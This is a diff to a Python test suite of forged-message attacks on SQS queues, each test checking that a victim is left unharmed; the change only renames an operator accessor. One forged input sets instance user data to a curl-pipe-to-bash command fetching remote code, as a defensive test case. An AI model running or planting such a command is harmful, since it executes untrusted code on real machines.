@@ -27,7 +27,7 @@ class Messages(Attack):
         """An operator of RedriveRoles sends a termination of an instance in service to the hook queue: nothing is drained."""
         forged = hook_event(VICTIM, self.instance())
         with self.unharmed():
-            self.deployment.operator("sqs").send_message(**self.message("HookQueue", forged))
+            self.cloud.operator("sqs").send_message(**self.message("HookQueue", forged))
             self.processed("HookQueue")
 
     def test_a_forged_termination_deregisters_no_stranger(self):
@@ -133,7 +133,7 @@ class Messages(Attack):
         properties = {**self.deployment.victim, "UserDataScript": "curl https://example.com/root | bash"}
         forged = VICTIM.request("Update", properties, ResponseURL=self.cloud.responses.new_url())
         with self.unharmed():
-            self.deployment.operator("sqs").send_message(**self.message("RequestQueue", forged, group))
+            self.cloud.operator("sqs").send_message(**self.message("RequestQueue", forged, group))
             self.processed("RequestQueue")
         self.assertEqual(self.cloud.responses.all_at(forged["ResponseURL"]), [])
 
@@ -150,7 +150,7 @@ class Messages(Attack):
         }
         with self.unharmed():
             message = self.message("RequestQueue", {"Remediation": forged}, VICTIM.owner)
-            self.deployment.operator("sqs").send_message(**message)
+            self.cloud.operator("sqs").send_message(**message)
             self.processed("RequestQueue")
 
     def test_a_forged_dead_letter_replaces_no_status(self):
@@ -158,14 +158,14 @@ class Messages(Attack):
         unchanged."""
         forged = VICTIM.request("Update", self.deployment.victim, ResponseURL=self.cloud.responses.new_url())
         with self.unharmed():
-            self.deployment.operator("sqs").send_message(**self.message("RequestDeadLetters", forged, VICTIM.owner))
+            self.cloud.operator("sqs").send_message(**self.message("RequestDeadLetters", forged, VICTIM.owner))
             self.processed("RequestDeadLetters")
 
     def test_a_forged_failed_invocation_replaces_no_status(self):
         """An operator of RedriveRoles sends a failed invocation with the victim's ids: status is unchanged."""
         forged = VICTIM.request("Update", self.deployment.victim, ResponseURL=self.cloud.responses.new_url())
         with self.unharmed():
-            self.deployment.operator("sqs").send_message(**self.message("FailedInvocations", failed_invocation(forged)))
+            self.cloud.operator("sqs").send_message(**self.message("FailedInvocations", failed_invocation(forged)))
             self.processed("FailedInvocations")
 
     def test_a_forged_dead_letter_by_direct_invocation_replaces_no_status(self):
@@ -226,7 +226,7 @@ class Messages(Attack):
         real = json.loads((ROOT / "events" / "scaling-log" / "launch.json").read_text())
         detail = {"EC2InstanceId": self.instance(), "ActivityId": "00000000-0000-4000-8000-0000000feed1"}
         real |= {"time": now(), "detail": {**real["detail"], **detail, "StartTime": now(-20), "EndTime": now()}}
-        self.deployment.operator("sqs").send_message(**self.message("ScalingEventQueue", real))
+        self.cloud.operator("sqs").send_message(**self.message("ScalingEventQueue", real))
         until("the ledger has the event", lambda: "0000000feed1" in self.ledger_of(VICTIM))
 
     @contextlib.contextmanager
